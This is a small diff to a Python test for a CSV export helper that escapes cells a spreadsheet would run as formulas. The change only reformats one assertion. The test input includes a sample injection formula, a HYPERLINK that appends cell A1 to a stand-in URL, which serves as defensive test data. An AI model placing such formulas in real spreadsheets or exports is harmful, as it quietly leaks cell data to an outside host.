@@ -210,6 +210,7 @@ def test_a_csv_text_cell_that_a_spreadsheet_would_run_as_a_formula_starts_with_a
     from build_scripts import export
 
     assert export._cell('=HYPERLINK("https://example.org/?"&A1)') == '\'=HYPERLINK("https://example.org/?"&A1)'
-    assert [export._cell(t) for t in ("+1", "-x", "@SUM(A1)", "\tx", "\rx")] == ["'+1", "'-x", "'@SUM(A1)", "'\tx", "'\rx"]
+    assert [export._cell(t) for t in ("+1", "-x", "@SUM(A1)", "\tx", "\rx")] == \
+        ["'+1", "'-x", "'@SUM(A1)", "'\tx", "'\rx"]
     assert export._cell("Up to 40 killed") == "Up to 40 killed"
     assert export._cell(-3) == "-3" and export._cell(-2.5) == "-2.5"  # numbers are numbers
